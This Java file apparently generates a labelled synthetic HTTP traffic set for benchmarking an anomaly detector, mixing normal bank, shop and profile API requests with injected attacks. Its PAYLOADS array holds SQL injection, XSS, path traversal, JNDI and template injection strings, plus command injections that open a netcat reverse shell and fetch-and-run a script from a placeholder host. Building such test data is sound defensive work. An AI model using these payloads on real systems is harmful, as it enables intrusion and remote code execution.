package io.bulwark.bench;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.io.BufferedWriter;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

/**
 * A labelled synthetic traffic set for the content detector (docs/ANOMALY.md, "Figures"): normal traffic of three APIs
 * (a JSON bank API, a form-encoded shop, a JSON profile API with ids in paths, cookies and varied headers) and attacks
 * injected into one field of an otherwise normal request: SQL injection, XSS, path traversal, command injection,
 * template and JNDI injection, overlong values, extra parameters, and encoded variants (double percent-encoding, HTML
 * references). Usage: {@code SyntheticTraffic OUT_DIR [trainNormal testNormal testAttacks seed]} writes
 * {@code train.jsonl} (normal only) and {@code test.jsonl} (labelled, shuffled).
 */
public final class SyntheticTraffic {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String[] FIRST = {"Anna", "Luis", "Marta", "John", "Wei", "Fatima", "Olga", "Pierre", "Sofía", "Jürgen", "Aiko",
            "Noah", "Emma", "Liam", "Chloé", "Mateo", "Zoë", "Ivan", "Priya", "Kofi"};
    private static final String[] LAST = {"Müller", "García", "Smith", "Chen", "Haddad", "Ivanova", "Dubois", "Rossi", "O'Brien",
            "Nakamura", "van der Berg", "Kowalski", "Silva", "Jones", "Núñez", "Schmidt", "Larsen", "Okafor", "Patel", "Dupont-Moreau"};
    private static final String[] WORDS = {"invoice", "rent", "groceries", "thanks", "dinner", "gift", "refund", "order", "subscription",
            "insurance", "travel", "books", "coffee", "repair", "deposit", "salary", "school", "fees", "garden", "tickets"};
    private static final String[] CITIES = {"Madrid", "Berlin", "Paris", "Lyon", "São Paulo", "Zürich", "New York", "Kraków", "Tokyo",
            "Den Haag", "Saint-Étienne", "L'Aquila"};
    private static final String[] AGENTS = {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
            "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "okhttp/4.12.0", "partner-sdk-java/2.3.1",
            "python-requests/2.32.3", "BankApp/5.12 (iPhone; iOS 18.1)", "curl/8.11.0"};
    private static final String[] LANGS = {"en-GB,en;q=0.9", "es-ES,es;q=0.9,en;q=0.5", "de-DE,de;q=0.8", "fr-FR", "ja-JP,ja;q=0.9"};
    private static final String[] PRODUCTS = {"Vino Rioja", "Queso Manchego", "Jamón Ibérico", "Aceite de oliva", "Turrón", "Café molido"};

    private final Random random;

    SyntheticTraffic(long seed) {
        this.random = new Random(seed);
    }

    public static void main(String[] args) throws IOException {
        Path dir = Path.of(args.length > 0 ? args[0] : "target/anomaly-synthetic");
        int trainNormal = args.length > 1 ? Integer.parseInt(args[1]) : 20_000;
        int testNormal = args.length > 2 ? Integer.parseInt(args[2]) : 5_000;
        int testAttacks = args.length > 3 ? Integer.parseInt(args[3]) : 2_500;
        long seed = args.length > 4 ? Long.parseLong(args[4]) : 20261208L;
        Files.createDirectories(dir);
        write(dir.resolve("train.jsonl"), new SyntheticTraffic(seed).records(trainNormal, 0, "t"));
        write(dir.resolve("test.jsonl"), new SyntheticTraffic(seed + 1).records(testNormal, testAttacks, "s"));
        System.out.printf(Locale.ROOT, "synthetic traffic in %s: train %d normal; test %d normal + %d attack%n", dir, trainNormal, testNormal, testAttacks);
    }

    static void write(Path file, List<ObjectNode> records) throws IOException {
        try (BufferedWriter out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            for (ObjectNode record : records) {
                out.write(JSON.writeValueAsString(record));
                out.write('\n');
            }
        }
    }

    /** {@code normal} normal requests and {@code attacks} attacks, shuffled together. */
    List<ObjectNode> records(int normal, int attacks, String prefix) {
        List<ObjectNode> out = new ArrayList<>();
        for (int i = 0; i < normal; i++) {
            out.add(normal().toJson("normal"));
        }
        for (int i = 0; i < attacks; i++) {
            out.add(attack().toJson("attack"));
        }
        java.util.Collections.shuffle(out, random);
        Instant t = Instant.parse("2026-12-01T10:00:00Z");
        for (int i = 0; i < out.size(); i++) {
            out.get(i).put("id", String.format(Locale.ROOT, "%s-%06d", prefix, i + 1));
            out.get(i).put("time", t.plusMillis(250L * i).toString());
        }
        return out;
    }

    /** A request under construction: query and form parameters, or a JSON body, kept apart so an attack can replace one. */
    final class Request {
        String method;
        String path;
        final Map<String, String> query = new LinkedHashMap<>();
        final Map<String, String> form = new LinkedHashMap<>();
        ObjectNode json;
        final Map<String, String> headers = new LinkedHashMap<>();
        List<String> pathIds = new ArrayList<>();
        /** Values already encoded by the attacker: not encoded again when written. */
        boolean preEncoded;

        ObjectNode toJson(String label) {
            ObjectNode node = JSON.createObjectNode();
            node.put("client_id", pick(new String[] {"partner-a", "partner-b", "mobile-app"}));
            node.put("method", method);
            StringBuilder url = new StringBuilder(path);
            String q = encode(query);
            if (!q.isEmpty()) {
                url.append('?').append(q);
            }
            node.put("url", url.toString());
            ObjectNode h = node.putObject("headers");
            headers.forEach(h::put);
            if (json != null) {
                node.put("body", json.toString());
            } else if (!form.isEmpty()) {
                node.put("body", encode(form));
            }
            node.put("status", 200);
            node.put("label", label);
            return node;
        }

        private String encode(Map<String, String> params) {
            StringBuilder out = new StringBuilder();
            params.forEach((k, v) -> out.append(out.isEmpty() ? "" : "&").append(k).append('=')
                    .append(preEncoded && v.contains("%") ? v : URLEncoder.encode(v, StandardCharsets.UTF_8)));
            return out.toString();
        }
    }

    Request normal() {
        Request r = new Request();
        r.headers.put("User-Agent", pick(AGENTS));
        r.headers.put("Accept", random.nextInt(4) == 0 ? "*/*" : "application/json");
        if (random.nextBoolean()) {
            r.headers.put("Accept-Language", pick(LANGS));
        }
        int api = random.nextInt(10);
        if (api < 4) {
            bank(r);
        } else if (api < 7) {
            shop(r);
        } else {
            profile(r);
        }
        return r;
    }

    private void bank(Request r) {
        String account = "acc-" + hex(8);
        switch (random.nextInt(6)) {
            case 0 -> { r.method = "GET"; r.path = "/bank/v1/accounts"; }
            case 1 -> { r.method = "GET"; r.path = "/bank/v1/accounts/" + account; }
            case 2 -> { r.method = "GET"; r.path = "/bank/v1/accounts/" + account + "/balances"; }
            case 3 -> {
                r.method = "GET";
                r.path = "/bank/v1/accounts/" + account + "/transactions";
                r.query.put("fromBookingDateTime", "2026-" + two(1 + random.nextInt(12)) + "-" + two(1 + random.nextInt(28)));
                if (random.nextBoolean()) {
                    r.query.put("page", Integer.toString(1 + random.nextInt(40)));
                }
                r.query.put("pageSize", pick(new String[] {"10", "25", "50", "100"}));
            }
            case 4 -> {
                r.method = "POST";
                r.path = "/bank/v1/payments";
                r.headers.put("Content-Type", "application/json");
                ObjectNode body = JSON.createObjectNode();
                ObjectNode amount = body.putObject("instructedAmount");
                amount.put("amount", String.format(Locale.ROOT, "%d.%02d", 1 + random.nextInt(5000), random.nextInt(100)));
                amount.put("currency", pick(new String[] {"EUR", "EUR", "EUR", "GBP", "USD", "CHF"}));
                body.putObject("creditorAccount").put("iban", iban());
                body.put("creditorName", person());
                body.put("remittanceInformationUnstructured", remittance());
                if (random.nextInt(3) == 0) {
                    body.putObject("debtorAccount").put("accountId", account);
                }
                r.json = body;
            }
            default -> { r.method = "GET"; r.path = "/bank/v1/payments/" + UUID.nameUUIDFromBytes(hex(16).getBytes(StandardCharsets.UTF_8)); }
        }
    }

    private void shop(Request r) {
        r.headers.put("Cookie", "JSESSIONID=" + hex(32).toUpperCase(Locale.ROOT) + (random.nextBoolean() ? "; lang=" + pick(new String[] {"es", "en", "de"}) : ""));
        switch (random.nextInt(5)) {
            case 0 -> {
                r.method = "POST";
                r.path = "/shop/cart/add";
                r.headers.put("Content-Type", "application/x-www-form-urlencoded");
                r.form.put("id", Integer.toString(1 + random.nextInt(6)));
                r.form.put("name", pick(PRODUCTS));
                r.form.put("price", Integer.toString(pick(new int[] {39, 85, 100, 120})));
                r.form.put("qty", Integer.toString(1 + random.nextInt(99)));
                r.form.put("B1", "Añadir al carrito");
            }
            case 1 -> {
                r.method = "GET";
                r.path = "/shop/search";
                r.query.put("q", tail(random.nextInt(10) == 0 ? invented() : words(1 + random.nextInt(3))));
                if (random.nextBoolean()) {
                    r.query.put("sort", pick(new String[] {"price", "name", "rating"}));
                }
                r.query.put("page", Integer.toString(1 + random.nextInt(9)));
            }
            case 2 -> {
                r.method = "POST";
                r.path = "/shop/login";
                r.headers.put("Content-Type", "application/x-www-form-urlencoded");
                r.form.put("user", login());
                r.form.put("password", password());
                r.form.put("remember", random.nextBoolean() ? "on" : "off");
            }
            case 3 -> {
                r.method = "POST";
                r.path = "/shop/register";
                r.headers.put("Content-Type", "application/x-www-form-urlencoded");
                String first = random.nextInt(4) == 0 ? invented() : pick(FIRST);
                String last = random.nextInt(4) == 0 ? invented() : pick(LAST);
                r.form.put("name", first);
                r.form.put("surname", last);
                r.form.put("email", login() + "@" + pick(new String[] {"example.com", "mail.es", "correo.org", "uni-bonn.de"}));
                r.form.put("address", pick(new String[] {"Calle", "Avenida", "Rue", "Hauptstraße", "Plaza"}) + " " + pick(LAST) + " "
                        + (1 + random.nextInt(200)) + (random.nextBoolean() ? ", " + (1 + random.nextInt(9)) + "º" + "ABCD".charAt(random.nextInt(4)) : ""));
                r.form.put("city", random.nextInt(5) == 0 ? invented() : pick(CITIES));
                r.form.put("zip", String.format(Locale.ROOT, "%05d", random.nextInt(100_000)));
                r.form.put("phone", "+34 6" + (10_000_000 + random.nextInt(89_999_999)));
            }
            default -> {
                r.method = "GET";
                r.path = "/shop/product/" + (1 + random.nextInt(500));
                if (random.nextBoolean()) {
                    r.query.put("ref", pick(new String[] {"home", "search", "mail", "banner"}));
                }
            }
        }
    }

    private void profile(Request r) {
        r.headers.put("Authorization", "Bearer " + hex(40));
        String user = Integer.toString(1000 + random.nextInt(90_000));
        switch (random.nextInt(4)) {
            case 0 -> {
                r.method = "PUT";
                r.path = "/api/users/" + user + "/profile";
                r.headers.put("Content-Type", "application/json; charset=utf-8");
                ObjectNode body = JSON.createObjectNode();
                body.put("displayName", pick(FIRST) + (random.nextBoolean() ? " " + pick(LAST) : ""));
                body.put("bio", tail(sentence()));
                if (random.nextBoolean()) {
                    body.put("website", "https://" + login() + "." + pick(new String[] {"dev", "io", "com"}) + "/" + pick(WORDS));
                }
                body.put("language", pick(new String[] {"en", "es", "de", "fr", "ja"}));
                body.put("age", 18 + random.nextInt(70));
                body.put("newsletter", random.nextBoolean());
                r.json = body;
            }
            case 1 -> {
                r.method = "GET";
                r.path = "/api/users/" + user + "/orders";
                r.query.put("status", pick(new String[] {"open", "shipped", "delivered", "cancelled"}));
                r.query.put("limit", pick(new String[] {"10", "20", "50"}));
            }
            case 2 -> {
                r.method = "GET";
                r.path = "/api/documents/" + UUID.nameUUIDFromBytes(hex(8).getBytes(StandardCharsets.UTF_8)) + "/download";
                if (random.nextBoolean()) {
                    r.query.put("format", pick(new String[] {"pdf", "csv"}));
                }
            }
            default -> { r.method = "GET"; r.path = "/api/users/" + user; }
        }
    }

    private static final String[][] PAYLOADS = {
            {"sqli", "' OR '1'='1", "1; DROP TABLE users--", "' UNION SELECT username, password FROM users--", "1' AND SLEEP(5)#",
                    "admin'--", "1 OR 1=1", "'; EXEC xp_cmdshell('dir');--", "\" OR \"\"=\"", "1) WAITFOR DELAY '0:0:5'--"},
            {"xss", "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
                    "<iframe src=//evil.example>", "'-alert(1)-'", "<body onload=alert('x')>"},
            {"traversal", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow", "/etc/passwd%00.pdf", "..%c0%af..%c0%afetc/passwd"},
            {"cmd", "; cat /etc/passwd", "| nc 203.0.113.9 4444 -e /bin/sh", "`id`", "$(whoami)", "&& curl http://203.0.113.9/x.sh | sh", "1;ping -c 3 203.0.113.9"},
            {"template", "{{7*7}}", "${jndi:ldap://203.0.113.9/a}", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "<%= 7*7 %>"},
            {"nosql", "{\"$gt\": \"\"}", "[$ne]=1", "'; return true; var x='"},
    };

    Request attack() {
        Request r = normal();
        int kind = random.nextInt(10);
        String payload;
        if (kind == 0) {
            payload = random.nextBoolean() ? "A".repeat(300 + random.nextInt(4000)) : randomText(200 + random.nextInt(2000));
        } else {
            String[] family = PAYLOADS[random.nextInt(PAYLOADS.length)];
            payload = family[1 + random.nextInt(family.length - 1)];
        }
        int encoding = random.nextInt(6);
        if (kind == 1) {
            // Parameter tampering: an extra parameter no client sends, carrying a harmless-looking value.
            String name = pick(new String[] {"admin", "debug", "role", "isAdmin", "__proto__", "redirect"});
            String value = pick(new String[] {"true", "1", "admin", "https://evil.example/"});
            if (r.json != null) {
                r.json.put(name, value);
            } else if (!r.form.isEmpty()) {
                r.form.put(name, value);
            } else {
                r.query.put(name, value);
            }
            return r;
        }
        if (encoding == 0) {
            payload = URLEncoder.encode(payload, StandardCharsets.UTF_8);
            r.preEncoded = true;
        } else if (encoding == 1) {
            StringBuilder refs = new StringBuilder();
            payload.chars().forEach(c -> refs.append(Character.isLetterOrDigit(c) ? String.valueOf((char) c) : "&#" + c + ";"));
            payload = refs.toString();
        }
        int target = random.nextInt(10);
        if (target == 0) {
            r.headers.put("User-Agent", payload);
        } else if (target == 1 && r.headers.containsKey("Cookie")) {
            r.headers.put("Cookie", "JSESSIONID=" + URLEncoder.encode(payload, StandardCharsets.UTF_8));
        } else if (target == 2) {
            int slash = r.path.lastIndexOf('/');
            r.path = r.path.substring(0, slash + 1) + URLEncoder.encode(payload, StandardCharsets.UTF_8).replace("%2F", "/");
        } else if (r.json != null) {
            List<String> names = new ArrayList<>();
            r.json.fieldNames().forEachRemaining(n -> { if (r.json.get(n).isValueNode()) { names.add(n); } });
            String name = names.get(random.nextInt(names.size()));
            r.json.put(name, payload);
        } else if (!r.form.isEmpty()) {
            List<String> names = new ArrayList<>(r.form.keySet());
            r.form.put(names.get(random.nextInt(names.size())), payload);
        } else if (!r.query.isEmpty()) {
            List<String> names = new ArrayList<>(r.query.keySet());
            r.query.put(names.get(random.nextInt(names.size())), payload);
        } else {
            r.query.put(pick(new String[] {"id", "q", "file", "page"}), payload);
        }
        return r;
    }

    /** Rare but legitimate characters, so normal traffic has a long tail the detector must tolerate. */
    private String tail(String value) {
        if (random.nextInt(50) != 0) {
            return value;
        }
        String[] extras = {" #" + (1 + random.nextInt(99)), " & co", " (2/3)", ": ok", " - paid", " 50%", " +1", " @home", " ✓", "'s"};
        return value + extras[random.nextInt(extras.length)];
    }

    /** A name from syllables, so names are not a closed list. */
    private String invented() {
        String[] syllables = {"ka", "lo", "mi", "ra", "bel", "tor", "su", "xi", "an", "dre", "ño", "é", "jo", "vi", "ul", "za"};
        StringBuilder out = new StringBuilder();
        int n = 2 + random.nextInt(3);
        for (int i = 0; i < n; i++) {
            out.append(syllables[random.nextInt(syllables.length)]);
        }
        return capital(out.toString());
    }

    private String person() {
        String first = random.nextInt(4) == 0 ? invented() : pick(FIRST);
        String last = random.nextInt(4) == 0 ? invented() : pick(LAST);
        return random.nextInt(30) == 0 ? first + " " + last + "-" + invented() : first + " " + last;
    }

    private String remittance() {
        return tail(remittanceText());
    }

    private String remittanceText() {
        return switch (random.nextInt(4)) {
            case 0 -> "Invoice " + (2025 + random.nextInt(2)) + "-" + (100 + random.nextInt(900));
            case 1 -> capital(words(2 + random.nextInt(3)));
            case 2 -> capital(pick(WORDS)) + " " + pick(new String[] {"Nov", "Dec", "Jan"}) + " " + (1 + random.nextInt(28)) + (random.nextBoolean() ? ", thanks!" : "");
            default -> "Ref. " + hex(6).toUpperCase(Locale.ROOT) + "/" + (1 + random.nextInt(99));
        };
    }

    private String sentence() {
        String s = capital(words(3 + random.nextInt(8)));
        return s + pick(new String[] {".", "!", "", " :)", "...", "?"});
    }

    private String words(int n) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < n; i++) {
            out.append(i == 0 ? "" : " ").append(pick(WORDS));
        }
        return out.toString();
    }

    private String login() {
        return (pick(FIRST).substring(0, 2) + pick(LAST).replaceAll("[^A-Za-z]", "")).toLowerCase(Locale.ROOT)
                + (random.nextBoolean() ? Integer.toString(random.nextInt(100)) : "");
    }

    private String password() {
        String alphabet = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!*-_.";
        return randomFrom(alphabet, 8 + random.nextInt(8));
    }

    private String randomText(int n) {
        return randomFrom("abcdefghijklmnopqrstuvwxyz0123456789%$#@!&*()<>?/\\;:'\"[]{}|~^", n);
    }

    private String randomFrom(String alphabet, int n) {
        StringBuilder out = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            out.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        return out.toString();
    }

    private String iban() {
        return pick(new String[] {"DE", "ES", "FR", "NL", "GB"}) + two(random.nextInt(100)) + randomFrom("0123456789", 18);
    }

    private String hex(int n) {
        return randomFrom("0123456789abcdef", n);
    }

    private static String two(int n) {
        return String.format(Locale.ROOT, "%02d", n);
    }

    private static String capital(String s) {
        return s.isEmpty() ? s : Character.toUpperCase(s.charAt(0)) + s.substring(1);
    }

    private String pick(String[] options) {
        return options[random.nextInt(options.length)];
    }

    private int pick(int[] options) {
        return options[random.nextInt(options.length)];
    }
}
